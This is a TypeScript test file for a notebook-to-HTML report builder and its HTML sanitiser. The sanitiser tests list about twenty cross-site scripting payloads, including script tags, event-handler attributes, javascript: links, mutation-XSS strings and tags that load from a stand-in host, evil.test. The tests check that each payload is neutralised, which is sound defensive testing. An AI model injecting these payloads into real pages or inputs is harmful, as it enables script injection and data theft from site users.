import { describe, expect, it } from "vitest";
import type { ResultJson } from "../analyses/result.js";
import { resultMimeType } from "../display.js";
import type { Cell, Notebook, Output } from "../templates/template.js";
import { rfmValues, shoppers } from "../testing/rfm-values.js";
import { makeReport } from "./make-report.js";
import { sanitise } from "./sanitise.js";

const facts: ResultJson = {
  analysis: "rfm",
  version: "1.2.3",
  language: "en",
  input: { name: "<script>alert(1)</script>.csv", sha256: "abc123", rows: 12345, columns: ["a", "b"] },
  parameters: { customer: "客户 <b>", groups: 5 },
  values: rfmValues(shoppers(500)),
  table: [],
  assumptions: ["Amounts are <i>as they stand</i>."],
  warnings: [
    { code: "few", level: "blocks", text: "Too few customers." },
    { code: "ties", level: "note", text: "Many ties." },
  ],
  reading: ["Champions bring 42 % (n = 5) of revenue.", "They buy often (12 orders).", "This shows no reasons.", "Next: write to them."],
};
const view =
  '<div class="marklab-result"><style>p { color: red }</style><p class="marklab-headline">HEADLINE-TWICE</p><p>READING-TWICE</p>' +
  '<div class="marklab-light"><svg viewBox="0 0 10 10"><g id="main-chart"><text>bar &lt;script&gt;</text></g></svg></div>' +
  '<div class="marklab-dark" style="display:none"><svg><text>DARK</text></svg></div>' +
  '<div class="marklab-table"><table><tr><td>&lt;script&gt;customer&lt;/script&gt;</td></tr></table></div><details>FOLD</details></div>';
const shown = (data: Record<string, unknown>): Output => ({ output_type: "execute_result", data, metadata: {}, execution_count: 1 });
const text = (source: string, report?: "hide" | "appendix"): Cell => ({
  id: "t",
  cell_type: "markdown",
  source,
  metadata: report ? { marklab: { report } } : {},
});
const code = (...outputs: Output[]): Cell => ({ id: "c", cell_type: "code", source: "const SECRET_CODE = 1;", metadata: {}, outputs });
const notebookOf = (cells: Cell[], language = "en"): Notebook => ({
  cells,
  metadata: { marklab: { template: "rfm", version: "1", language, parameters: {} } as never },
  nbformat: 4,
  nbformat_minor: 5,
});

const story = notebookOf([
  text("# The title & more", "hide"),
  text("## 1. Question\n\nWhy **now**?"),
  text("## 3. Method\n\nHow it is done.", "appendix"),
  text("## 4. Result"),
  code(shown({ "text/html": view, [resultMimeType]: facts })),
  code(shown({ "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><text>GRID</text></svg>', "text/plain": "PLAIN" })),
  text("HIDDEN", "hide"),
]);
const html = makeReport(story);
const place = (part: string) => {
  expect(html).toContain(part);
  return html.indexOf(part);
};

describe("makeReport()", () => {
  it("opens with the decision: headline, numbers, chart, next step", () => {
    const order = ["<h1>Champions bring 42 % of revenue</h1>", "75.0\u202f%", "main-chart", "Next step", "Write to them."].map(place);
    expect(order).toEqual(order.toSorted((one, other) => one - other));
    expect(place("<h2>Question</h2>")).toBeGreaterThan(order.at(-1) ?? 0);
  });

  it("puts what blocks a decision beside the headline, and says headline, chart and fold once", () => {
    expect(place("● Too few customers.")).toBeLessThan(place("main-chart"));
    for (const repeated of ["HEADLINE-TWICE", "READING-TWICE", "DARK", "FOLD"]) expect(html).not.toContain(repeated);
    expect(html.match(/main-chart/g)).toHaveLength(1);
  });

  it("ends with the proof: method, data, parameters, assumptions, checks", () => {
    const last = place("About this report");
    for (const part of ["How it is done.", "abc123", "12,345 rows × 2 columns", "rfm 1.2.3", "<dt>groups</dt><dd>5</dd>", "Many ties."]) {
      expect(html.indexOf(part, last), part).toBeGreaterThan(last);
    }
  });

  it("holds no code, no hidden text and nothing that is loaded", () => {
    for (const absent of ["SECRET_CODE", "HIDDEN", "PLAIN", "http://", "https://", "<script", "<link", "<iframe", "@import"]) {
      expect(html).not.toContain(absent);
    }
    expect(html).toContain("default-src 'none'");
  });

  it("shows hostile names as text, wherever they come from", () => {
    expect(html).toContain("&lt;script&gt;customer&lt;/script&gt;");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;.csv");
    expect(html).toContain("客户 &lt;b&gt;");
    expect(html).toContain("&lt;i&gt;as they stand");
  });

  it("gives the same bytes for the same notebook", () => expect(makeReport(structuredClone(story))).toBe(html));

  it("is in the notebook's language", () => {
    const chinese = makeReport(notebookOf(story.cells, "zh-CN"));
    expect(chinese).toContain('<html lang="zh-CN">');
    for (const word of ["下一步", "报告说明", "数据指纹", "行动前须解决"]) expect(chinese).toContain(word);
  });

  it("tells a notebook without a result, with plain outputs, pictures and errors", () => {
    const plain = makeReport(
      notebookOf([
        text("# Mine"),
        code(
          { output_type: "stream", name: "stdout", text: ["one <b>\n", "two"] },
          { output_type: "stream", name: "stderr", text: "NOISE" },
          shown({ "image/png": "aGk=\n" }),
          shown({ "image/png": '"><script>x' }),
          { output_type: "error", ename: "Error", evalue: "bad <thing>", traceback: ["TRACE"] },
        ),
      ]),
    );
    for (const part of ["<h1>Mine</h1>", "one &lt;b&gt;\ntwo", "data:image/png;base64,aGk=", "bad &lt;thing&gt;"])
      expect(plain).toContain(part);
    for (const absent of ["NOISE", "TRACE", "<script", "About this report"]) expect(plain).not.toContain(absent);
  });

  it("tells an empty notebook", () => expect(makeReport(notebookOf([]))).toContain("<title>Marklab</title>"));
});

describe("sanitise()", () => {
  it.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><image href="https://evil.test/x.png"/></svg>',
    '<svg><use href="https://evil.test/x.svg#a"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg onload="alert(1)"><g onclick="alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="https://evil.test"></iframe></foreignObject></svg>',
    '<svg><rect fill="url(https://evil.test/x.svg#a)"/></svg>',
    '<img src="https://evil.test/x.png" onerror="alert(1)">',
    '<img src=x onerror=alert(1)//">',
    '<a href="javascript:alert(1)">x</a>',
    '<p style="background:url(https://evil.test/x)">x</p>',
    '<p style="background:u\\72l(//evil.test/x)">x</p>',
    "<style>@import 'https://evil.test/x.css'</style>",
    '<form action="https://evil.test"><button formaction="https://evil.test">x</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">',
    '<object data="https://evil.test"></object><embed src="https://evil.test">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  ])("takes the harm out of %s", (hostile) =>
    expect(sanitise(hostile)).not.toMatch(
      /<script|javascript:|\son\w+\s*=|evil\.test|<iframe|<style|<form|<meta|<base|<link|<object|<embed/i,
    ),
  );

  it("keeps drawings as they are", () => {
    const drawing =
      '<svg viewBox="0 0 640 360" role="img" aria-label="Bars"><defs><clipPath id="c1"><rect width="1" height="2"></rect></clipPath><linearGradient id="g1"><stop offset="0" stop-color="#fff"></stop></linearGradient></defs><g clip-path="url(#c1)" transform="translate(1,2)"><path fill="url(#g1)" stroke-width="2" d="M0,0"></path><text text-anchor="end" font-family="Inter, &quot;PingFang SC&quot;" style="opacity: 1;">客户</text></g></svg>';
    expect(sanitise(drawing)).toBe(drawing);
  });
});
